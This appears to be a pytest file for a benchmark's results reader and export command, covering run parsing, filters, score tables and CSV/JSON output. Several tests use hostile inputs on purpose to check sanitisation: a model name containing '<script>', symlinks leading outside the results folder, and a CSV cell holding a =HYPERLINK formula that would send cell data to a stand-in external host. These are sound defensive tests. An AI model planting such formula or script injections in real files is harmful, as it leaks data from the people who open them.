"""Reading a results directory back (ssebench.runs) and `ssebench results export`."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from ssebench.cli import main
from ssebench.runs import FILTERS, RUN_COLUMNS, export_csv, matching, read_runs, score_table
from ssebench.scores import SCORE_COLUMNS
from tests.helpers import HOSTILE_RUN, RESULTS_FIXTURE, hostile_results

ROOT = Path(__file__).resolve().parents[2]
VIEWER_DOC = ROOT / "docs" / "viewer.md"


def test_every_run_is_read_and_no_link_is_followed(tmp_path: Path) -> None:
    results = hostile_results(tmp_path)
    runs = read_runs(results)
    # The fixture's three runs and the hostile one; the linked run and the linked task's run are not there.
    assert sorted(r.path for r in runs) == sorted(
        [
            "c-demo/none/reference/20261205T040112-d2-sandbox-736d12",
            "c-demo/openai%2Fgpt-4o/dummy/20261201T000000-d2-sandbox-aaaaaa",
            "c-demo/openai%2Fgpt-4o/dummy/20261201T000100-d2-sandbox-bbbbbb",
            HOSTILE_RUN,
        ]
    )
    # The positive control: the links lead to runs read as any other once they are real folders.
    linked = results / HOSTILE_RUN.rsplit("/", 1)[0] / "linked-run"
    linked.unlink()
    (tmp_path / "outside" / "x" / "y" / "z").rename(linked)
    (results / "linked-task").unlink()
    assert "outside-run" in {r.run_id for r in read_runs(results)}
    # Named by their escaped folders, read by type.
    evil = next(r for r in runs if r.path == HOSTILE_RUN)
    assert evil.model == "evil<script>" and evil.grade == "failed" and evil.tokens == (300, 40)
    assert evil.row()["first_failure"].startswith("<script>")


def test_a_summary_of_the_wrong_types_reads_as_unknown_never_an_error(tmp_path: Path) -> None:
    run = tmp_path / "t" / "m" / "a" / "r1"
    run.mkdir(parents=True)
    (run / "summary.json").write_text(
        json.dumps({"task": [1], "config": {"difficulty": "hard", "trial": True}, "grade": "excellent", "usage": 3})
    )
    [got] = read_runs(tmp_path)
    assert (got.task, got.model, got.agent, got.run_id) == ("t", "m", "a", "r1")  # from the folders
    assert (got.grade, got.difficulty, got.trial, got.tokens, got.cost) == ("error", 0, 1, (None, None), None)


def test_read_runs_refuses_a_link_or_a_file_in_one_line(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    (tmp_path / "link").symlink_to(RESULTS_FIXTURE)
    for bad in ("file", "link", "missing"):
        with pytest.raises(NotADirectoryError, match="not a results directory"):
            read_runs(tmp_path / bad)


def test_filters_keep_the_runs_of_every_wanted_value() -> None:
    runs = read_runs(RESULTS_FIXTURE)
    assert {r.agent for r in matching(runs, {"agent": ["reference"]})} == {"reference"}
    assert len(matching(runs, {"agent": ["reference", "dummy"]})) == 3
    assert len(matching(runs, {"grade": ["failed"], "model": ["openai/gpt-4o"]})) == 2
    assert matching(runs, {"difficulty": ["3"]}) == []
    assert len(matching(runs, {"difficulty": ["2"], "task": []})) == 3  # an empty filter keeps all
    assert set(FILTERS) == {"task", "language", "agent", "model", "difficulty", "mode", "grade", "session"}


def test_the_score_table_from_a_results_directory_counts_as_the_plugin_does() -> None:
    table = score_table(read_runs(RESULTS_FIXTURE))
    header, *rows = table.cells()
    cells = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    # The same cells test_record's read-back through the plugin's properties gives.
    assert cells["dummy"]["failed"] == "2" and cells["dummy"]["tokens"] == "84000"
    assert cells["reference"]["passed"] == "1" and cells["reference"]["PoC"] == "100%"
    assert cells["reference"]["pass rate [95% CI]"] == "100% [21-100]"


def test_the_score_table_of_a_results_directory_leaves_quarantined_tasks_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    results = tmp_path / "results"
    shutil.copytree(RESULTS_FIXTURE, results, symlinks=True)
    # The dummy's runs ran while their task was quarantined (summary.json's task.quarantined).
    for path in results.glob("*/*/dummy/*/summary.json"):
        summary = json.loads(path.read_text())
        summary["task"]["quarantined"] = "flaky poc (1 of 3)"
        path.write_text(json.dumps(summary))
    table = score_table(read_runs(results))
    assert [row[0] for row in table.cells()[1:]] == ["reference"]
    assert table.left_out_line() == "2 run(s) of quarantined tasks left out (dataset.yaml: quarantine)"
    assert main(["results", "export", str(results), "--table", "scores", "--out", str(tmp_path / "s.csv")]) == 0
    assert "2 run(s) of quarantined tasks left out" in capsys.readouterr().err


def _export(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(["results", "export", str(RESULTS_FIXTURE), *args]) == 0
    return capsys.readouterr().out


def test_export_writes_one_row_per_run_as_csv_and_json(capsys: pytest.CaptureFixture[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(capsys))))
    assert len(rows) == 3 and list(rows[0]) == list(RUN_COLUMNS)
    reference = next(r for r in rows if r["agent"] == "reference")
    assert reference["grade"] == "passed" and reference["build"] == "true" and reference["cost_usd"] == ""
    memory = next(r for r in rows if r["run_id"].endswith("bbbbbb"))
    assert memory["limits_hit"].startswith("memory:") and memory["prompt_tokens"] == "40000"
    as_json = json.loads(_export(capsys, "--format", "json"))
    assert [list(r) for r in as_json] == [list(RUN_COLUMNS)] * 3
    assert next(r for r in as_json if r["agent"] == "reference")["cost_usd"] is None
    assert len(json.loads(_export(capsys, "--format", "json", "--agent", "dummy"))) == 2
    assert _export(capsys, "--agent", "nobody") == ",".join(RUN_COLUMNS) + "\n"  # a header, even for no run
    assert json.loads(_export(capsys, "--format", "json", "--agent", "nobody")) == []


def test_export_writes_the_score_table_as_numbers(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    rows = json.loads(_export(capsys, "--table", "scores", "--format", "json"))
    by_agent = {r["agent"]: r for r in rows}
    assert by_agent["reference"]["pass_rate"] == 1.0 and by_agent["reference"]["pass_rate_low"] == pytest.approx(
        0.2065, abs=1e-4
    )
    assert by_agent["dummy"]["tokens"] == 84000 and by_agent["reference"]["tokens"] is None
    documented = {re.sub(r"_2$", "_K", key) for row in rows for key in row}
    assert documented == set(SCORE_COLUMNS)
    out = tmp_path / "scores.csv"
    assert main(["results", "export", str(RESULTS_FIXTURE), "--table", "scores", "--out", str(out)]) == 0
    assert "2 row(s) of 3 run(s) written" in capsys.readouterr().err
    assert list(csv.DictReader(io.StringIO(out.read_text())))[1]["pass_rate"] == "1.0"


def test_export_of_a_missing_directory_is_one_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    with pytest.raises(SystemExit):
        main(["results", "export", str(tmp_path / "nowhere")])
    assert "not a directory; give the folder a run's --results wrote" in capsys.readouterr().err


def _column_table(columns: dict[str, str]) -> str:
    return "\n".join(["| column | meaning |", "|---|---|", *(f"| `{k}` | {v} |" for k, v in columns.items())])


@pytest.mark.parametrize("columns", [RUN_COLUMNS, SCORE_COLUMNS], ids=["runs", "scores"])
def test_docs_viewer_md_describes_every_exported_column_as_the_code_does(columns: dict[str, str]) -> None:
    table = _column_table(columns)
    assert table in VIEWER_DOC.read_text(), f"paste this table into {VIEWER_DOC.name}:\n{table}"


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
    """A predictions file names the model: `=HYPERLINK(...)` in a CSV cell is a formula to Excel and
    LibreOffice. Such a cell starts with a quote; numbers and other text are as they were."""
    out = io.StringIO()
    rows: list[dict[str, Any]] = [
        {"model": '=HYPERLINK("http://x.example/?"&A2,"open")', "tokens": -3, "task": "c-demo"},
        {"model": "+1", "tokens": 5, "task": "@x"},
        {"model": "-2", "tokens": None, "task": "\tx"},
    ]
    export_csv(rows, out)
    cells = list(csv.reader(io.StringIO(out.getvalue())))
    assert cells[1] == ['\'=HYPERLINK("http://x.example/?"&A2,"open")', "-3", "c-demo"]
    assert cells[2] == ["'+1", "5", "'@x"] and cells[3] == ["'-2", "", "'\tx"]
